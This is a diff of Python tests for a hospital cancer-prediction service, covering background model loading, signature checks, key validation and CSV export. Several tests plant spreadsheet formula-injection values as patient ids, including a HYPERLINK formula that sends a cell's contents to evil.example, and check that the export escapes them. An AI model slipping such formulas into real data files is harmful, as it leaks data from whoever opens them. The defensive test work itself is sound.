@@ -65,7 +65,7 @@ def site(tmp_path_factory):
             df["stage"] = [m.levels["stage"][int(v)] for v in df["stage"]]
         df.insert(0, schema.id_column, ids)
         df.to_csv(data / f"{m.name}.csv", index=False)
-    settings = SiteConfig(model_dir=str(root / "models"), state_dir=str(root / "state"))
+    settings = SiteConfig(model_dir=str(root / "models"), state_dir=str(root / "state"), simulated=True)
     settings.write(root / "site.json")
     tokens = TokenStore(root / "state" / TOKENS_FILE)
     return {"root": root, "schema": schema, "x": x, "y": y, "settings": settings, "data": data,
@@ -235,6 +235,39 @@ def test_model_info_rollback_and_hot_reload(site, client):
     assert client.get("/v1/model", headers=_auth(site["clinician"])).json()["version"] == "v0002"
 
 
+def test_a_new_version_loads_off_the_event_loop_while_the_current_one_answers(site, tmp_path, monkeypatch):
+    """Loading a newly activated version (~0.3 s of CPU: verify, read, trace) ran on the event loop, inside the first
+    request to see it: /health and every request waited for it while a model was installed. It loads in a thread,
+    and the current version answers until the new one is ready."""
+    import threading
+    import time
+
+    from fastapi.testclient import TestClient
+
+    from client.predict import Predictor
+
+    _copy_site(site, tmp_path)
+    c = TestClient(create_app(SiteConfig.load(tmp_path / "site.json")))
+    assert c.get("/health").json()["model_version"] == "v0002"
+    release, load = threading.Event(), Predictor._load
+
+    def slow(self, version):  # the new version's load, held until the service has answered meanwhile
+        release.wait(20)
+        return load(self, version)
+
+    monkeypatch.setattr(Predictor, "_load", slow)
+    ModelStore(tmp_path / "models").activate("v0001")  # e.g. a delivery installed by the site's training process
+    t0 = time.perf_counter()
+    health = c.get("/health").json()
+    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
+    assert time.perf_counter() - t0 < 10 and health["model_version"] == "v0002", health
+    assert r.status_code == 200 and r.json()["model_version"] == "v0002"
+    release.set()
+    _health_once(c, lambda h: h["model_version"] == "v0001")  # served once loaded
+    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
+    assert r.json()["model_version"] == "v0001"
+
+
 def test_a_rollback_sent_as_curl_sends_it_is_followed_and_a_bad_body_names_the_fix(site, client):
     """`curl -d '{"rollback": true}'` sends the JSON form-encoded (as the guide's /v1/predict example does): it was
     refused with FastAPI's "Input should be a valid dictionary", naming neither the body's form nor the fix."""
@@ -289,6 +322,32 @@ def test_batch_cli(site, tmp_path):
     assert pd.read_csv(out, keep_default_na=False)["warnings"].str.contains("extra_columns").all()
 
 
+def test_the_batch_cli_keeps_a_cell_a_spreadsheet_would_run_as_a_formula_as_text(site, tmp_path):
+    """A patient id `=HYPERLINK(...)` reached `oncofed predict --out` verbatim, a formula once the file is opened in a
+    spreadsheet: a cell starting with = + - @ (or a tab, a carriage return) gets a leading single quote (OWASP)."""
+    import csv
+
+    from typer.testing import CliRunner
+
+    from oncofed.cli import app
+
+    data = tmp_path / "data"
+    shutil.copytree(site["data"], data)
+    renamed = {"P000": '=HYPERLINK("http://evil.example/?"&A2,"open")', "P001": "+SUM(1)", "P002": "@cmd", "P003": "-x"}
+    for table in data.glob("*.csv"):
+        df = pd.read_csv(table, dtype=str)
+        df[site["schema"].id_column] = df[site["schema"].id_column].replace(renamed)
+        df.to_csv(table, index=False)
+    out = tmp_path / "p.csv"
+    r = CliRunner().invoke(app, ["predict", "--site-config", str(site["root"] / "site.json"), "--data", str(data),
+                                 "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    with open(out, newline="") as fh:
+        ids = [row[0] for row in csv.reader(fh)]
+    assert set(ids) >= {"'" + v for v in renamed.values()} and "P004" in ids
+    assert not any(i[:1] in "=+-@" for i in ids)
+
+
 def test_the_batch_cli_writes_no_prediction_its_audit_log_did_not_record(site, tmp_path):
     # a review broke the audit log's last line: 20 rows reached the CSV, then a traceback, and no audit entry
     from typer.testing import CliRunner
@@ -322,6 +381,7 @@ def test_web_page_in_headless_chromium(site, live, tmp_path):
             df.loc[df["patient"] == "P000", "g5"] = "1000000"  # far outside the site's training values
         else:
             df = df[df["patient"] != "P001"]  # P001: expression only, 30 of 61 inputs
+        df["patient"] = df["patient"].replace({"P599": "=HYPERLINK(\"http://evil.example\",\"P599\")"})
         df.to_csv(upload / f.name, index=False)
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=chromium, args=[
@@ -359,6 +419,8 @@ def test_web_page_in_headless_chromium(site, live, tmp_path):
     assert "expr 100%" in p000["coverage"] and "pushed the prediction" in p000["features"]
     assert "low_coverage" in p001_warnings and attention == "attention weights of the fusion layer"
     assert len(exported) == N and list(exported.columns[:4]) == ["patient", "predicted", "cancer type", "probability"]
+    # a cell a spreadsheet would run as a formula is exported as text (OWASP: a leading single quote)
+    assert "'=HYPERLINK(\"http://evil.example\",\"P599\")" in set(exported["patient"])
     assert "Held-out quality from the model package" in quality and "0.9" in quality  # the package's macro-F1
     assert meaning.startswith("What a probability means") and "calibrated" in meaning
     assert (site["root"] / "web-page.png").stat().st_size > 10_000
@@ -410,7 +472,7 @@ def test_a_hospital_that_never_trained_fits_its_normalizer_and_serves(site, tmp_
 
     new_state = tmp_path / "state"
     new_state.mkdir()
-    settings = SiteConfig(model_dir=str(site["root"] / "models"), state_dir=str(new_state))
+    settings = SiteConfig(model_dir=str(site["root"] / "models"), state_dir=str(new_state), simulated=True)
     settings.write(tmp_path / "site.json")
     with pytest.raises(ModelStoreError, match="fit-normalizer"):
         create_app(settings)
@@ -438,7 +500,8 @@ def test_fit_normalizer_refuses_tables_it_cannot_fit_honestly_and_keeps_the_one_
     from shared_models.site_data import Normalizer
 
     shutil.copytree(site["root"] / "state", tmp_path / "state")
-    settings = SiteConfig(model_dir=str(site["root"] / "models"), state_dir=str(tmp_path / "state"))
+    settings = SiteConfig(model_dir=str(site["root"] / "models"), state_dir=str(tmp_path / "state"),
+                          simulated=True)
     saved = tmp_path / "state" / "normalizer.json"
     before = saved.read_bytes()
 
@@ -638,6 +701,42 @@ def test_a_json_body_that_is_a_scalar_is_refused_with_no_patients_not_an_error_t
         r = client.post("/v1/predict", content=body.encode(), headers={**_auth(site["clinician"]),
                                                                        "Content-Type": "application/json"})
         assert r.status_code == 422 and _codes(r) == {"no_patients"}, (body, r.status_code, r.text)
+
+def test_an_unknown_or_misspelt_key_is_refused_naming_it_and_the_closest_valid_key(site, client):
+    """Keys the contract does not know were dropped silently: `topk` answered with the default top_k, a patient's
+    `age`/`labels` beside its modalities were ignored, `modalites` said every modality was missing and `patient` that
+    a list of patients was required, naming neither key. Each is refused (422) with the key and the closest valid one."""
+    p = _patient(site, 0)
+
+    def refused(body: dict) -> dict:
+        r = client.post("/v1/predict", json=body, headers=_auth(site["clinician"]))
+        assert r.status_code == 422 and _codes(r) == {"unknown_key"}, r.text
+        return {e["loc"]: e for e in r.json()["detail"]}
+
+    said = refused({"patients": [p], "topk": 0})
+    assert "'top_k'" in said["body.topk"]["msg"] and said["body.topk"]["fix"] == "write 'top_k'"
+    assert "'patients'" in refused({"patient": [p]})["body.patient"]["msg"]
+    said = refused({"patients": [{**p, "age": 200, "labels": "OV"}], "top_k": 0})
+    assert set(said) == {"patients[0].age", "patients[0].labels"}
+    assert "the keys here are id, modalities" in said["patients[0].age"]["fix"]
+    said = refused({"patients": [{"id": p["id"], "modalites": p["modalities"]}], "top_k": 0})
+    assert "did you mean 'modalities'?" in said["patients[0].modalites"]["msg"]
+    assert client.post("/v1/predict", json={"patients": [p], "top_k": 0},
+                       headers=_auth(site["clinician"])).status_code == 200
+
+
+def test_parameters_fastapi_refuses_are_answered_in_the_contracts_format(site, client):
+    """`?top_k=abc` and `-F files=hello` got FastAPI's own answer ({"type": "int_parsing", ...}), naming no fix:
+    they are 422s in the contract's format, {loc, code, msg, fix}, as every other refusal."""
+    csv = b"patient,g0\nP000,1.0\n"
+    for r, code in ((client.post("/v1/predict/file?top_k=abc", files={"files": ("expr.csv", csv)},
+                                 headers=_auth(site["clinician"])), "bad_top_k"),
+                    (client.post("/v1/predict/file?top_k=0", files={"files": (None, "hello")},  # -F files=hello
+                                 headers=_auth(site["clinician"])), "not_a_file")):
+        assert r.status_code == 422, r.text
+        (problem,) = r.json()["detail"]
+        assert set(problem) == {"loc", "code", "msg", "fix"} and problem["code"] == code, r.text
+
 
 def test_a_key_given_twice_in_a_json_object_is_refused(site, client):
     patient = json.dumps(_patient(site, 0))
@@ -1576,10 +1675,33 @@ def _copy_site(site, tmp_path) -> dict:
     shutil.copytree(site["root"] / "state", tmp_path / "state")
     (tmp_path / "state" / "audit.jsonl").unlink(missing_ok=True)
     (tmp_path / "state" / "audit.jsonl.head").unlink(missing_ok=True)
-    settings = SiteConfig(model_dir=str(tmp_path / "models"), state_dir=str(tmp_path / "state"))
+    settings = SiteConfig(model_dir=str(tmp_path / "models"), state_dir=str(tmp_path / "state"), simulated=True)
     settings.write(tmp_path / "site.json")
     return settings
 
+
+
+def test_a_real_site_without_a_trust_anchor_serves_no_model_it_cannot_verify(site, tmp_path):
+    """Without signing-public-key a package whose signature does not verify was activated and served as healthy
+    ("not checked (no trust anchor)"): outside a simulation the service refuses every version, naming site.json's key
+    and where the consortium's key comes from; `serve activate` and `predict` refuse too."""
+    from typer.testing import CliRunner
+
+    from client.model_store import ModelStoreError
+    from oncofed.cli import app
+
+    _copy_site(site, tmp_path)
+    settings = SiteConfig(model_dir=str(tmp_path / "models"), state_dir=str(tmp_path / "state"))
+    settings.write(tmp_path / "site.json")
+    with pytest.raises(ModelStoreError, match="signing-public-key is not set") as refused:  # `oncofed serve`: exit 2
+        create_app(SiteConfig.load(tmp_path / "site.json"))
+    assert str(tmp_path / "site.json") in str(refused.value) and "trust/signing.pub" in str(refused.value)
+    for cli in (["serve", "activate", "--site-config", str(tmp_path / "site.json"), "--version", "v0001"],
+                ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(site["data"]), "--out",
+                 str(tmp_path / "out.csv")]):
+        r = CliRunner().invoke(app, cli)
+        assert r.exit_code == 2 and "signing-public-key is not set" in " ".join(r.output.split()), r.output
+    assert (tmp_path / "models" / "ACTIVE").read_text().strip() == "v0002" and not (tmp_path / "out.csv").exists()
 
 
 def test_a_normaliser_of_another_schema_is_refused_naming_the_file_and_the_fix(site, tmp_path):
@@ -1621,11 +1743,22 @@ def test_a_tampered_active_package_falls_back_to_the_newest_verified_version(sit
         fh.write(b"tampered")
     shutil.copytree(tmp_path / "models" / "v0002", tmp_path / "models" / "v0003")
     (tmp_path / "models" / "ACTIVE").write_text("v0003\n")  # e.g. an admin activates a broken copy
-    r = c.get("/health")
+    r = _health_once(c, lambda h: h.get("status") == "unhealthy")  # v0003 is tried in the background
     assert r.status_code == 503 and r.json() == {"status": "unhealthy", "model_version": None}
     r = c.get("/v1/model", headers=_auth(site["clinician"]))
     assert r.status_code == 503 and "v0003" in r.json()["detail"]
     assert "no older installed version verifies" in r.json()["detail"]
+
+
+def _health_once(c, settled, seconds: float = 30.0):
+    """/health once `settled(its body)`: a newly activated version is loaded in the background."""
+    import time
+
+    deadline = time.monotonic() + seconds
+    while not settled((r := c.get("/health")).json()):
+        assert time.monotonic() < deadline, r.text
+        time.sleep(0.05)
+    return r
 
 
 def test_rolling_back_to_the_fallback_version_clears_the_degraded_state(site, tmp_path):
@@ -2164,7 +2297,7 @@ def test_a_site_that_refuses_weak_patterns_answers_none_of_them_on_any_path(site
 
     _copy_site(site, tmp_path)
     settings = SiteConfig.parse({"model-dir": str(tmp_path / "models"), "state-dir": str(tmp_path / "state"),
-                                 "serve": {"refuse-weak-pattern": True}})
+                                 "simulated": True, "serve": {"refuse-weak-pattern": True}})
     settings.write(tmp_path / "site.json")
     data = tmp_path / "labelled"
     _labelled(site, data)
@@ -2268,7 +2401,7 @@ def test_the_consortiums_measurement_of_each_pattern_travels_with_the_package_an
     assert info["calibration"] is None and info["consortium_patterns"] == consortium_patterns({"patterns": patterns},
                                                                                               schema)
     strict = TestClient(create_app(SiteConfig.parse({"model-dir": str(tmp_path / "models"), "state-dir": str(
-        tmp_path / "state"), "serve": {"refuse-weak-pattern": True}})))
+        tmp_path / "state"), "simulated": True, "serve": {"refuse-weak-pattern": True}})))
     r = strict.post("/v1/predict", json={"patients": [full, no_expr], "top_k": 0}, headers=_auth(site["clinician"]))
     assert r.status_code == 422 and _codes(r) == {"weak_pattern"} and "consortium" in r.text
 
